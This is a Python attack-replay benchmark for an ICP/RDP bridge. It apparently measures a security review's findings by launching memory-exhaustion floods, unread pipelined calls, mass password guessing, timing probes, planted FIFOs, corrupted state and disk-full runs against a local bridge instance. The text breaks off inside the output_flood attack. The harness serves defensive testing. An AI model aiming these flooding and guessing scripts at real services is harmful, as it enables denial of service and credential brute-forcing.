"""The security review's attacks, replayed against a real bridge, with the
figures a timed unit test could not give reliably (memory, log volume,
seconds of delay).

Each attack starts its own ``twistd -n icp-bridge`` from ``--bridge-root``
(this checkout by default; point it at an older checkout to get the
"before" column), runs, and prints one JSON object of figures. The attacks:

- ``token_bomb``: 600 getPermissionForToken calls with distinct 4 MB junk
  tokens.
- ``never_reads``: calls with a 1 MB method name, never reading a reply;
  then 2,000,000 pipelined pings, never reading.
- ``rdp_stops_reading``: the RDP server logs a user on, then stops reading;
  100,000 bridged calls (virtualChannelOpen) over 100 connections.
- ``password_queue``: 1,000 wrong guesses through the OTS API, then a real
  logonConnection (from another address) and a real LogonUser, timed.
- ``timing``: unknown user vs wrong password, medians of 200 checks.
- ``icp_silent``: a peer that connects to the ICP socket and never
  handshakes, then the real RDP server.
- ``stale_lock``: kill -9 and start again at once (the dead one unreaped).
- ``planted_fifo``: a restored session's token file replaced by a FIFO.
- ``foreign_socket_dir``: the ICP socket's directory owned by another
  user and writable by all.
- ``corrupt_state``: random bytes over state.sqlite3.
- ``disk_full``: the state on a full 1 MiB tmpfs, 400 logons (root only).
- ``output_flood``: the state on a 300 MB tmpfs; a desktop, running as an
  unprivileged user, writes to stdout and stderr as fast as it can; RDP
  and OTS API logons and /healthz meanwhile; then the tmpfs filled
  (root only).
- ``half_started_kill9``: kill -9 while a desktop starts, a restart, the
  user's next logon.
- ``accounts``: users-file users whose system account is root, locked,
  expired; greeter logons with a NUL in the name and with 200 KB of it
  (root only).

Issue 18 (a local user, a guessing client; root only where another user
is needed, who is the test suite's ``icpbtest`` or ``nobody``):

- ``icp_squat``: another user listens at the ICP socket's path (1777
  directory) before the bridge starts; then holds a lock file beside it.
- ``lockout_weapon``: 10 guesses for alice from 10 addresses, then her
  right password from an 11th; a lock that expired and one more guess; 12
  junk OTS API logons of a local user, then root's own logon.
- ``failure_flood``: 20,000 failed OTS API logons with distinct names from
  6,667 loopback addresses, with the defaults and without lockouts: RSS,
  state DB, rows, log.
- ``admin_abuse``: /events streams on a USER token, a rebound Host, 3,000
  idle connections, 2,000 HEAD /metrics, a non-ASCII request, 200
  connections timing out (62 s).
- ``dbus_forge``: 100 forged SessionNotification signals from another user
  on a dbus-daemon with the checkout's shipped policy.

usage: python -m bench.attacks [--bridge-root DIR] [ATTACK ...]
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import pwd
import re
import shutil
import signal
import socket
import sqlite3
import struct
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from thrift.protocol import TBinaryProtocol
from thrift.Thrift import TMessageType
from thrift.transport import TSocket, TTransport

from bench.run import (
    PASSWORD,
    ROOT,
    bench_config,
    free_port,
    kill_backends,
    port_open,
    rss_mb,
    wait_for,
)
from protocols import icp
from protocols.generated import ICP_pb2, pbRPC_pb2
from protocols.generated.otsapi_blocking import otsapi

RPCBase = pbRPC_pb2.RPCBase
KEEP = False  # --keep: leave each bridge's directory (its log) for a look


def call_frame(name: str | bytes, args: Any = None, seqid: int = 1) -> bytes:
    """A framed CALL; ``name`` may be any bytes (an attacker's method name)."""
    raw = name if isinstance(name, bytes) else name.encode()
    body = struct.pack("!Ii", 0x80010000 | TMessageType.CALL, len(raw)) + raw
    body += struct.pack("!i", seqid)
    if args is None:
        body += b"\x00"
    else:
        transport = TTransport.TMemoryBuffer()
        args.write(TBinaryProtocol.TBinaryProtocol(transport))
        body += transport.getvalue()
    return struct.pack("!i", len(body)) + body


def icp_frame(rpc: RPCBase) -> bytes:
    body = rpc.SerializeToString()
    return struct.pack("!I", len(body)) + body


class IcpPeer:
    """A minimal RDP server: blocking, for scripting attacks."""

    def __init__(self, path: Path, timeout: float = 30.0) -> None:
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.settimeout(timeout)
        self.sock.connect(str(path))
        self.tag = 1

    def send(self, rpc: RPCBase) -> None:
        self.sock.sendall(icp_frame(rpc))

    def recv(self) -> RPCBase:
        (length,) = struct.unpack("!I", self._exactly(4))
        return RPCBase.FromString(self._exactly(length))

    def _exactly(self, n: int) -> bytes:
        data = b""
        while len(data) < n:
            chunk = self.sock.recv(n - len(data))
            if not chunk:
                raise ConnectionError("closed")
            data += chunk
        return data

    def handshake(self) -> None:
        self.send(RPCBase(tag=0, isResponse=False, status=RPCBase.SUCCESS,
                          msgType=icp.HANDSHAKE_MSG_TYPE,
                          versionInfo=pbRPC_pb2.VersionInfo(vmajor=1, vminor=1)))
        answer = self.recv()
        assert answer.msgType == icp.HANDSHAKE_MSG_TYPE, answer

    def logon(self, connection_id: int, user: str, password: str,
              address: str = "192.0.2.7") -> RPCBase:
        """LogonUser; the answer (requests from the bridge meanwhile are
        answered NOTFOUND, as an RDP server without that handler would)."""
        tag = self.send_logon(connection_id, user, password, address)
        while True:
            rpc = self.recv()
            if rpc.isResponse and rpc.tag == tag:
                return rpc
            if not rpc.isResponse:
                self.send(RPCBase(tag=rpc.tag, isResponse=True, status=RPCBase.NOTFOUND,
                                  msgType=rpc.msgType))

    def send_logon(self, connection_id: int, user: str, password: str,
                   address: str = "192.0.2.7") -> int:
        """Send LogonUser, not waiting for its answer; returns its tag."""
        self.tag += 1
        tag = self.tag
        self.send(RPCBase(tag=tag, isResponse=False, status=RPCBase.SUCCESS,
                          msgType=icp.MSG_LOGON_USER, payload=ICP_pb2.LogonUserRequest(
                              connectionId=connection_id, username=user, password=password,
                              domain="", width=1024, height=768, colorDepth=32,
                              clientHostName="attack", clientAddress=address,
                              clientBuildNumber=1, clientProductId=1, clientHardwareId=0,
                              clientProtocolType=2).SerializeToString()))
        return tag

    def close(self) -> None:
        self.sock.close()


def endpoint_of(answer: RPCBase) -> str | None:
    if answer.status != RPCBase.SUCCESS:
        return None
    return ICP_pb2.LogonUserResponse.FromString(answer.payload).serviceEndpoint


def import_auth(names: str) -> str:
    """Code importing ``names`` from the auth module of any checkout (it
    moved to bridge/security/ with issue 17)."""
    return (f"try:\n    from bridge.security.auth import {names}\n"
            f"except ImportError:\n    from bridge.auth import {names}\n")


class Bridge:
    """``twistd -n icp-bridge`` from ``root``, on its own temporary files."""

    def __init__(self, root: Path, users: dict[str, str] | None = None,
                 state_dir: Path | None = None, icp_path: Path | None = None,
                 scrypt_n: int | None = 1024, config: str | None = None,
                 own_logs: bool = True, config_lines: str = "",
                 levels: dict[str, int] | None = None) -> None:
        """``config``: the TOML file's text, instead of the stand-in
        backends' (the placeholder BASE is this bridge's directory).
        ``own_logs``: the backends' output under BASE, not in the default
        directory (where a checkout knows backend_log_dir). ``config_lines``:
        top-level TOML keys added to the stand-in backends' config;
        ``levels``: permission levels of users (default FULL)."""
        self.root = root
        self.config_lines = config_lines
        self.levels = levels or {}
        self.base = Path(tempfile.mkdtemp(prefix="ib-attack-", dir="/tmp"))
        self.port = free_port()
        self.icp_path = icp_path or self.base / "icp.sock"
        self.state_dir = state_dir or self.base / "state"
        self.users = self.base / "users"
        self.log_path = self.base / "bridge.log"
        self.popen: subprocess.Popen[bytes] | None = None
        self.current = root == ROOT or (root / "bridge" / "backends.py").exists() \
            or (root / "bridge" / "backends").is_dir()
        self.config = config
        self.own_logs = own_logs and "backend_log_dir" in (
            root / "bridge" / "config.py").read_text()
        self.write_users(users or {"bench": PASSWORD}, scrypt_n)

    def python(self, code: str, *argv: str, **kwargs: Any) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-c", code, *argv], cwd=self.root, text=True,
                              capture_output=True,
                              env={**os.environ, "PYTHONPATH": str(self.root)}, **kwargs)

    def write_users(self, users: dict[str, str], scrypt_n: int | None) -> None:
        code = ("import json, sys\nfrom pathlib import Path\n"
                f"{import_auth('UserEntry, hash_password, write_users')}"
                "users = json.loads(sys.argv[2]); n = json.loads(sys.argv[3])\n"
                "levels = json.loads(sys.argv[4])\n"
                "write_users(Path(sys.argv[1]), [UserEntry(name, levels.get(name, 0x1FF), "
                "hash_password(pw, **({'n': n} if n else {}))) for name, pw in users.items()])\n")
        self.python(code, str(self.users), json.dumps(users), json.dumps(scrypt_n),
                    json.dumps(self.levels), check=True)

    def argv(self) -> list[str]:
        argv = [sys.executable, "-c", "from twisted.scripts.twistd import run; run()", "-n",
                "--pidfile=", "icp-bridge", "--icp", f"unix:{self.icp_path}",
                "--thrift", f"tcp:{self.port}:interface=127.0.0.1",
                "--state", str(self.state_dir), "--users", str(self.users),
                "--token-dir", str(self.base)]
        if self.config is not None:
            path = self.base / "attack.toml"
            logs = 'backend_log_dir = "BASE/logs"\n' if self.own_logs else ""
            path.write_text((logs + self.config).replace("BASE", str(self.base)))
            argv += ["--config", str(path)]
        elif self.current:
            # Sessions run the stand-in backend (the older bridge starts none).
            config = bench_config(self.base, backend_logs=self.own_logs)
            config.write_text(self.config_lines + config.read_text())  # keys before tables
            argv += ["--config", str(config)]
        return argv

    def admin_port(self) -> int:
        """The admin endpoint's port (bench_config lets it pick one)."""
        match = re.search(r"admin \(HTTP\) listening on tcp:[0-9.]+:(\d+)", self.log())
        if match is None:
            raise RuntimeError("the bridge logged no admin endpoint")
        return int(match.group(1))

    def start(self, wait: bool = True, timeout: float = 30.0) -> None:
        log = open(self.log_path, "a")
        self.popen = subprocess.Popen(self.argv(), cwd=self.root, stdout=log,
                                      stderr=subprocess.STDOUT,
                                      env={**os.environ, "PYTHONPATH": str(self.root)})
        log.close()
        if wait:
            wait_for(lambda: self.listening() or self.popen.poll() is not None,
                     "the bridge", timeout=timeout)
            if not self.listening():
                raise RuntimeError(f"the bridge did not start:\n{self.log()[-3000:]}")

    def listening(self) -> bool:
        return port_open(self.port) and self.icp_path.exists()

    @property
    def pid(self) -> int:
        assert self.popen is not None
        return self.popen.pid

    def log(self) -> str:
        return self.log_path.read_text(errors="replace") if self.log_path.exists() else ""

    def client(self, source: str | None = None) -> tuple[Any, Any]:
        sock = TSocket.TSocket("127.0.0.1", self.port)
        if source:
            raw = socket.socket()
            raw.bind((source, 0))
            raw.connect(("127.0.0.1", self.port))
            sock.handle = raw
        transport = TTransport.TFramedTransport(sock)
        if not source:
            transport.open()
        return otsapi.Client(TBinaryProtocol.TBinaryProtocol(transport)), transport

    def kill9(self) -> None:
        if self.popen is not None and self.popen.poll() is None:
            os.kill(self.popen.pid, signal.SIGKILL)

    def stop(self) -> None:
        if self.popen is not None and self.popen.poll() is None:
            self.popen.send_signal(signal.SIGTERM)
            try:
                self.popen.wait(15)
            except subprocess.TimeoutExpired:
                self.popen.kill()
                self.popen.wait()
        self.kill_backends()

    def kill_backends(self) -> None:
        kill_backends(self.base)

    def cleanup(self) -> None:
        self.stop()
        if KEEP:
            print(f"kept {self.base}", file=sys.stderr)
        else:
            shutil.rmtree(self.base, ignore_errors=True)


def settle(pid: int, seconds: float = 2.0) -> float:
    """RSS after the bridge has had time to free what it can."""
    time.sleep(seconds)
    return rss_mb(pid)


# -- the attacks ------------------------------------------------------------------------

def token_bomb(root: Path) -> dict[str, Any]:
    bridge = Bridge(root)
    try:
        bridge.start()
        before = rss_mb(bridge.pid)
        junk = "x" * 4_000_000
        answered = closed = 0
        started = time.monotonic()
        sock = socket.create_connection(("127.0.0.1", bridge.port))
        for n in range(600):
            # Each token differs: a cache keyed by token keeps each one.
            call = call_frame("getPermissionForToken",
                              otsapi.getPermissionForToken_args(authToken=f"{n:06d}{junk}"))
            try:
                sock.sendall(call)
                sock.settimeout(30)
                header = sock.recv(4)
                if not header:
                    raise ConnectionError
                (length,) = struct.unpack("!i", header)
                while length > 0:
                    length -= len(sock.recv(min(length, 65536)))
                answered += 1
            except (ConnectionError, OSError, struct.error):
                closed += 1
                sock.close()
                sock = socket.create_connection(("127.0.0.1", bridge.port))
        sock.close()
        peak = rss_mb(bridge.pid)
        return {"calls": 600, "answered": answered, "connection_closed": closed,
                "seconds": round(time.monotonic() - started, 1), "rss_before_mb": before,
                "rss_after_mb": peak, "rss_settled_mb": settle(bridge.pid)}
    finally:
        bridge.cleanup()


def _send_until_blocked(sock: socket.socket, frames: Callable[[], bytes], limit: int,
                        stall: float = 3.0) -> tuple[int, bool]:
    """Send up to ``limit`` bytes, stopping when the bridge stops taking
    them for ``stall`` seconds or closes. (bytes sent, closed by bridge)"""
    sent = 0
    sock.settimeout(stall)
    while sent < limit:
        data = frames()
        try:
            sock.sendall(data)
        except TimeoutError:
            return sent, False
        except OSError:
            return sent, True
        sent += len(data)
    return sent, False


def never_reads(root: Path) -> dict[str, Any]:
    bridge = Bridge(root)
    try:
        bridge.start()
        log_before = len(bridge.log())
        before = rss_mb(bridge.pid)
        sock = socket.create_connection(("127.0.0.1", bridge.port))
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        big_name = call_frame(b"A" * 1_000_000)
        sent, closed = _send_until_blocked(sock, lambda: big_name, 400 * len(big_name))
        big = {"sent_mb": round(sent / 2**20, 1), "closed_by_bridge": closed,
               "rss_before_mb": before, "rss_after_mb": rss_mb(bridge.pid),
               "log_growth_kb": round((len(bridge.log()) - log_before) / 1024, 1)}
        sock.close()
        time.sleep(1)
        before = rss_mb(bridge.pid)
        sock = socket.create_connection(("127.0.0.1", bridge.port))
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        pings = call_frame("ping", otsapi.ping_args(input=7)) * 10_000
        sent, closed = _send_until_blocked(sock, lambda: pings, 2_000_000 * len(pings) // 10_000)
        small = {"sent_mb": round(sent / 2**20, 1), "pings_sent": sent * 10_000 // len(pings),
                 "closed_by_bridge": closed, "rss_before_mb": before,
                 "rss_after_mb": rss_mb(bridge.pid)}
        sock.close()
        return {"method_name_1mb": big, "pings_unread": small,
                "rss_settled_mb": settle(bridge.pid)}
    finally:
        bridge.cleanup()


async def _pipelined(port: int, frames: bytes, calls: int, timeout: float) -> dict[str, int]:
    """Write ``frames`` (``calls`` calls) on one connection, count replies."""
    outcome = {"answered": 0, "closed": 0}
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
    except OSError:
        outcome["closed"] = calls
        return outcome
    writer.write(frames)
    try:
        while outcome["answered"] < calls:
            header = await asyncio.wait_for(reader.readexactly(4), timeout)
            (length,) = struct.unpack("!i", header)
            await reader.readexactly(length)
            outcome["answered"] += 1
    except (asyncio.IncompleteReadError, ConnectionError, TimeoutError):
        outcome["closed"] = calls - outcome["answered"]
    writer.close()
    return outcome


def rdp_stops_reading(root: Path) -> dict[str, Any]:
    bridge = Bridge(root)
    try:
        bridge.start()
        peer = IcpPeer(bridge.icp_path)
        peer.handshake()
        endpoint = endpoint_of(peer.logon(1, "bench", PASSWORD))
        client, transport = bridge.client()
        token = client.logonConnection("bench", PASSWORD, "").authToken
        session_id = client.enumerateSessions(token, 1).sessionInfoList[0].sessionId
        transport.close()
        peer.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        # From here on the RDP server reads nothing.
        before = rss_mb(bridge.pid)
        call = call_frame("virtualChannelOpen", otsapi.virtualChannelOpen_args(
            authToken=token, sessionId=session_id, virtualName="CLIPRDR",
            isDynChannel=False, flags=0))
        started = time.monotonic()
        peak = [before]

        async def attack() -> list[dict[str, int]]:
            async def watch() -> None:
                while True:
                    peak[0] = max(peak[0], rss_mb(bridge.pid))
                    await asyncio.sleep(0.2)
            watcher = asyncio.ensure_future(watch())
            try:
                return await asyncio.gather(*(_pipelined(bridge.port, call * 1000, 1000, 60)
                                              for _ in range(100)))
            finally:
                watcher.cancel()

        outcomes = asyncio.run(attack())
        peer.close()
        return {"logon_endpoint": endpoint, "calls": 100_000,
                "answered": sum(o["answered"] for o in outcomes),
                "unanswered": sum(o["closed"] for o in outcomes),
                "seconds_to_last_answer": round(time.monotonic() - started, 1),
                "rss_before_mb": before, "rss_peak_mb": peak[0],
                "rss_settled_mb": settle(bridge.pid)}
    finally:
        bridge.cleanup()


def password_queue(root: Path) -> dict[str, Any]:
    # Real password hashes (the default cost): checks take what they take.
    bridge = Bridge(root, users={"bench": PASSWORD, "victim": "victim-pw", "real": "real-pw",
                                 "rdpuser": "rdp-pw"}, scrypt_n=None)
    try:
        bridge.start()
        guess = call_frame("logonConnection", otsapi.logonConnection_args(
            username="victim", password="wrong", domain=""))
        result: dict[str, Any] = {"guesses": 1000}

        async def attack() -> None:
            loop = asyncio.get_running_loop()
            guesses = [asyncio.ensure_future(_pipelined(bridge.port, guess * 20, 20, 120))
                       for _ in range(50)]
            await asyncio.sleep(0.5)

            def real_ots() -> float:
                started = time.monotonic()
                client, transport = bridge.client(source="127.0.0.2")
                r = client.logonConnection("real", "real-pw", "")
                transport.close()
                result["real_logon_ok"] = bool(r.success)
                return time.monotonic() - started

            def real_rdp() -> float:
                started = time.monotonic()
                peer = IcpPeer(bridge.icp_path, timeout=120)
                peer.handshake()
                result["rdp_logon_endpoint"] = endpoint_of(peer.logon(1, "rdpuser", "rdp-pw"))
                peer.close()
                return time.monotonic() - started

            ots, rdp = await asyncio.gather(loop.run_in_executor(None, real_ots),
                                            loop.run_in_executor(None, real_rdp))
            result["real_logon_s"] = round(ots, 2)
            result["rdp_logon_s"] = round(rdp, 2)
            started = time.monotonic()
            outcomes = await asyncio.gather(*guesses)
            result["guesses_answered"] = sum(o["answered"] for o in outcomes)
            result["all_guesses_answered_after_s"] = round(time.monotonic() - started + 0.5, 1)

        asyncio.run(attack())
        text = bridge.log()
        result["failed_logon_log_lines"] = text.count("failed logon")
        result["password_in_log"] = "wrong" in text.replace("wrong session", "")
        return result
    finally:
        bridge.cleanup()


def timing(root: Path) -> dict[str, Any]:
    base = Path(tempfile.mkdtemp(prefix="ib-attack-"))
    try:
        code = (
            "import statistics, sys, time\nfrom pathlib import Path\n"
            f"{import_auth('UserEntry, UsersFileAuthenticator, hash_password, write_users')}"
            "path = Path(sys.argv[1])\n"
            "write_users(path, [UserEntry('alice', 0x1FF, hash_password('right'))])\n"
            "auth = UsersFileAuthenticator(path)\n"
            "def timed(user):\n"
            "    started = time.perf_counter(); auth.authenticate(user, 'guess', '')\n"
            "    return (time.perf_counter() - started) * 1000\n"
            "unknown = [timed(f'nobody{i}') for i in range(200)]\n"
            "wrong = [timed('alice') for i in range(200)]\n"
            "print(round(statistics.median(unknown), 1), round(statistics.median(wrong), 1))\n")
        out = subprocess.run([sys.executable, "-c", code, str(base / "users")], cwd=root,
                             capture_output=True, text=True, check=True,
                             env={**os.environ, "PYTHONPATH": str(root)}).stdout.split()
        return {"unknown_user_median_ms": float(out[0]), "wrong_password_median_ms": float(out[1])}
    finally:
        shutil.rmtree(base, ignore_errors=True)


def icp_silent(root: Path) -> dict[str, Any]:
    bridge = Bridge(root)
    try:
        bridge.start()
        silent = socket.socket(socket.AF_UNIX)
        silent.connect(str(bridge.icp_path))
        time.sleep(0.2)
        started = time.monotonic()
        served_after = None
        while time.monotonic() - started < 60:
            try:
                peer = IcpPeer(bridge.icp_path, timeout=60 - (time.monotonic() - started))
                peer.handshake()
                endpoint_of(peer.logon(1, "bench", PASSWORD))
                served_after = round(time.monotonic() - started, 1)
                peer.close()
                break
            except (ConnectionError, OSError, AssertionError):
                time.sleep(0.5)
        silent.settimeout(1)
        try:
            silent_closed = silent.recv(1) == b""
        except (TimeoutError, OSError):
            silent_closed = False
        silent.close()
        return {"real_rdp_server_served_after_s": served_after,
                "silent_peer_closed": silent_closed}
    finally:
        bridge.cleanup()


def _zombie(pid: int) -> bool:
    return Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] == "Z"


def stale_lock(root: Path) -> dict[str, Any]:
    """Start again right after kill -9 (the dead bridge a zombie, not yet
    reaped), then with the lock naming a live pid that is not a bridge."""
    bridge = Bridge(root)
    result: dict[str, Any] = {}
    try:
        bridge.start()
        first = bridge.popen
        assert first is not None
        bridge.kill9()
        wait_for(lambda: _zombie(first.pid), "the killed bridge to die", 10)
        for case in ("unreaped", "pid_reused"):
            if case == "pid_reused":
                bridge.kill9()
                assert bridge.popen is not None
                bridge.popen.wait()
                lock = Path(f"{bridge.icp_path}.lock")
                if lock.is_symlink():  # Twisted's FilesystemLock: a link to the pid
                    lock.unlink()
                    lock.symlink_to(str(os.getpid()))
                else:
                    result["pid_reused_note"] = "the lock is an flock, no pid in it"
            started = time.monotonic()
            try:
                bridge.start(timeout=15)
                result[f"{case}_listening_after_s"] = round(time.monotonic() - started, 2)
            except RuntimeError:
                result[f"{case}_listening_after_s"] = None
                lines = [line for line in bridge.log().splitlines() if "another" in line]
                result[f"{case}_refusal"] = lines[-1][-100:] if lines else None
        first.wait()
        return result
    finally:
        bridge.cleanup()


def planted_fifo(root: Path) -> dict[str, Any]:
    bridge = Bridge(root)
    try:
        bridge.start()
        peer = IcpPeer(bridge.icp_path)
        peer.handshake()
        endpoint_of(peer.logon(1, "bench", PASSWORD))
        token_files = sorted(bridge.base.glob("ogon.session.*"))
        peer.close()
        bridge.kill9()
        assert bridge.popen is not None
        bridge.popen.wait()
        for path in token_files:
            path.unlink()
            os.mkfifo(path)
        started = time.monotonic()
        try:
            bridge.start(timeout=20)
            listening = round(time.monotonic() - started, 2)
        except RuntimeError:
            listening = None
        fifo_left = any(p.is_fifo() for p in token_files if p.exists())
        return {"token_files": len(token_files), "restart_listening_after_s": listening,
                "fifo_still_there": fifo_left}
    finally:
        bridge.cleanup()


def foreign_socket_dir(root: Path) -> dict[str, Any]:
    if os.geteuid() != 0:
        return {"skipped": "needs root (a directory owned by another user)"}
    shared = Path(tempfile.mkdtemp(prefix="ib-pipe-", dir="/tmp"))
    nobody = pwd.getpwnam("nobody")
    os.chown(shared, nobody.pw_uid, nobody.pw_gid)
    shared.chmod(0o777)
    bridge = Bridge(root, icp_path=shared / "icp.sock")
    try:
        bridge.start(wait=False)
        assert bridge.popen is not None
        try:
            wait_for(lambda: bridge.listening() or bridge.popen.poll() is not None, "start", 20)
        except RuntimeError:
            pass
        listening = bridge.listening()
        lines = [line for line in bridge.log().splitlines() if str(shared) in line]
        return {"started": listening, "exit_status": bridge.popen.poll(),
                "line": None if listening else (lines[-1][-160:] if lines else None)}
    finally:
        bridge.cleanup()
        shutil.rmtree(shared, ignore_errors=True)


def corrupt_state(root: Path) -> dict[str, Any]:
    bridge = Bridge(root)
    try:
        bridge.start()
        bridge.stop()
        (bridge.state_dir / "state.sqlite3").write_bytes(os.urandom(65536))
        bridge.log_path.unlink()
        bridge.start(wait=False)
        assert bridge.popen is not None
        try:
            bridge.popen.wait(30)
        except subprocess.TimeoutExpired:
            pass
        output = [line for line in bridge.log().splitlines() if line.strip()]
        return {"exit_status": bridge.popen.poll(), "listening": bridge.listening(),
                "output_lines": len(output),
                "traceback": any("Traceback" in line for line in output),
                "last_line": output[-1][-160:] if output else None}
    finally:
        bridge.cleanup()


def disk_full(root: Path) -> dict[str, Any]:
    if os.geteuid() != 0:
        return {"skipped": "needs root (mounting a tmpfs)"}
    mount = Path(tempfile.mkdtemp(prefix="ib-disk-", dir="/tmp"))
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(mount)], check=True)
    users = {f"u{n}": f"pw{n}" for n in range(400)} | {"bench": PASSWORD}
    bridge = Bridge(root, users=users, state_dir=mount / "state")
    try:
        bridge.start()
        peer = IcpPeer(bridge.icp_path)
        peer.handshake()
        assert endpoint_of(peer.logon(1000, "bench", PASSWORD))
        with open(mount / "filler", "wb") as filler:
            try:
                while True:
                    filler.write(b"\0" * 65536)
                    filler.flush()
            except OSError:
                pass
        acknowledged = {"bench"}
        failed = 0
        for n in range(400):
            endpoint = endpoint_of(peer.logon(n + 1, f"u{n}", f"pw{n}"))
            if endpoint and "greeter" not in endpoint:
                acknowledged.add(f"u{n}")
            else:
                failed += 1
        peer.close()
        bridge.kill9()
        assert bridge.popen is not None
        bridge.popen.wait()
        (mount / "filler").unlink()
        bridge.start()
        client, transport = bridge.client()
        token = client.logonConnection("bench", PASSWORD, "").authToken
        restored = {client.querySessionInformation(token, s.sessionId, 5).infoValue.stringValue
                    for s in client.enumerateSessions(token, 1).sessionInfoList}
        transport.close()
        return {"logons": 400, "acknowledged": len(acknowledged) - 1, "refused": failed,
                "acknowledged_then_lost": len(acknowledged - restored),
                "write_failures_logged": bridge.log().count("state write failed")}
    finally:
        bridge.cleanup()
        subprocess.run(["umount", "-l", str(mount)], check=False)
        shutil.rmtree(mount, ignore_errors=True)


# -- issue 18: backends' output, half-started backends, accounts --------------------------

#: A desktop that makes its socket, then writes 1 MiB lines to stdout and
#: stderr as fast as it can; on SIGTERM it writes how much to argv[2].
FLOODER = """
import os, signal, socket, sys
path, report = sys.argv[1], sys.argv[2]
server = socket.socket(socket.AF_UNIX)
server.bind(path + ".tmp"); server.listen(4); os.rename(path + ".tmp", path)
written = 0
def done(*_):
    with open(report, "w") as f:
        f.write(str(written))
    os._exit(0)
signal.signal(signal.SIGTERM, done)
block = b"flood " * (1024 * 1024 // 6) + b"\\n"
while True:
    for fd in (1, 2):
        try:
            written += os.write(fd, block)
        except OSError:
            pass
"""
STANDIN = ROOT / "bridge" / "backends" / "standin.py"


def _modules(xsession: list[str], xsession_extra: str = "", user: str = "session") -> str:
    """A config: the stand-in greeter, and ``xsession`` as the desktop run
    as the session's user; both run by /usr/bin/python3 from BASE (which
    other users may read)."""
    greeter = ["/usr/bin/python3", "BASE/standin_backend.py", "--socket",
               "{pipe_dir}/{endpoint}"]
    return ('pipe_dir = "BASE/pipes"\nadmin_endpoint = "tcp:ADMIN:interface=127.0.0.1"\n'
            'dbus_address = ""\n'
            f'[modules.greeter]\ncommand = {json.dumps(greeter)}\n'
            'endpoint = "ogon_{session_id}_greeter"\nuser = "root"\n'
            f'[modules.xsession]\ncommand = {json.dumps(xsession)}\n'
            f'endpoint = "ogon_{{session_id}}_xsession"\nuser = "{user}"\n{xsession_extra}')


def _open_base(bridge: Bridge) -> None:
    """Let other users reach the bridge's directory and run the stand-in."""
    bridge.base.chmod(0o755)
    shutil.copy(STANDIN, bridge.base / "standin_backend.py")
    (bridge.base / "standin_backend.py").chmod(0o644)
    reports = bridge.base / "reports"
    reports.mkdir()
    reports.chmod(0o1777)


#: The password of the system accounts made for the attacks (and the tests).
SYSTEM_PASSWORD = "system-pw"


def ensure_account(name: str, *usermod: str) -> str:
    """A system account with a password (then ``usermod``), as the tests make."""
    try:
        pwd.getpwnam(name)
    except KeyError:
        subprocess.run(["useradd", "--create-home", "--shell", "/bin/sh", "--user-group", name],
                       check=True, capture_output=True)
        subprocess.run(["chpasswd"], input=f"{name}:{SYSTEM_PASSWORD}\n", text=True, check=True,
                       capture_output=True)
        if usermod:
            subprocess.run(["usermod", *usermod, name], check=True, capture_output=True)
    return name


def _kill_under(base: Path) -> None:
    """End every process group whose command line names ``base`` (the
    backends a bridge under it started; the bridge is stopped first)."""
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            if str(base).encode() in (entry / "cmdline").read_bytes():
                os.killpg(int(entry.name), signal.SIGKILL)
        except OSError:
            continue


def _http(port: int, path: str) -> tuple[int, dict[str, Any]]:
    import urllib.error
    import urllib.request

    try:
        with urllib.request.urlopen(f"http://127.0.0.1:{port}{path}", timeout=10) as answer:
            return answer.status, json.loads(answer.read())
    except urllib.error.HTTPError as e:
        return e.code, json.loads(e.read())


def output_flood(root: Path) -> dict[str, Any]:
    """The review's flood: 7.15 GB in 12 s into the state directory."""
    if os.geteuid() != 0:
        return {"skipped": "needs root (a tmpfs, an unprivileged desktop user)"}
    flooder_user = ensure_account("icpbtest")
    mount = Path(tempfile.mkdtemp(prefix="ib-small-", dir="/tmp"))
    subprocess.run(["mount", "-t", "tmpfs", "-o", "size=300m", "tmpfs", str(mount)], check=True)
    admin = free_port()
    me = pwd.getpwuid(os.geteuid()).pw_name
    plain = ["/usr/bin/python3", "BASE/standin_backend.py", "--socket", "{pipe_dir}/{endpoint}"]
    config = _modules(["/usr/bin/python3", "-c", FLOODER, "{pipe_dir}/{endpoint}",
                       "BASE/reports/written"]).replace("ADMIN", str(admin)) + (
        # The user logging on meanwhile has a desktop of the bridge's user.
        f'[modules.plain]\ncommand = {json.dumps(plain)}\n'
        f'endpoint = "ogon_{{session_id}}_plain"\nuser = "{me}"\n'
        '[user_properties.bench]\n"module" = "plain"\n')
    # The backends' output where it goes by default: off the state's filesystem.
    bridge = Bridge(root, users={flooder_user: PASSWORD, "bench": PASSWORD},
                    state_dir=mount / "state", config=config, own_logs=False)
    _open_base(bridge)
    sizes: list[int] = []
    flooding = [True]

    def watch_logs() -> None:
        """The flooding desktop's output file, looked at every 0.5 ms."""
        while flooding[0]:
            for directory in (mount / "state" / "backends", Path("/run/icp-bridge/backends")):
                for path in directory.glob("session-1-xsession*.log"):
                    try:
                        sizes.append(path.stat().st_size)
                    except OSError:
                        pass
            time.sleep(0.0005)

    def state_free() -> int:
        info = os.statvfs(mount)
        return info.f_bavail * info.f_frsize

    import threading
    run_logs = Path("/run/icp-bridge/backends")
    before = set(run_logs.glob("session-*.log"))
    try:
        bridge.start()
        peer = IcpPeer(bridge.icp_path)
        peer.handshake()
        started = time.monotonic()
        desktop = endpoint_of(peer.logon(1, flooder_user, PASSWORD))
        watcher = threading.Thread(target=watch_logs)
        watcher.start()
        lowest_free = state_free()
        full_after = None
        while time.monotonic() - started < 6:
            lowest_free = min(lowest_free, state_free())
            if full_after is None and lowest_free < 1024 * 1024:
                full_after = round(time.monotonic() - started, 2)
            time.sleep(0.01)
        rdp = endpoint_of(peer.logon(2, "bench", PASSWORD))
        client, transport = bridge.client()
        try:
            otsapi_ok = client.logonConnection("bench", PASSWORD, "").success
        except Exception as e:  # the reviewer's "OTS API logons failed"
            otsapi_ok = f"{type(e).__name__}"
        transport.close()
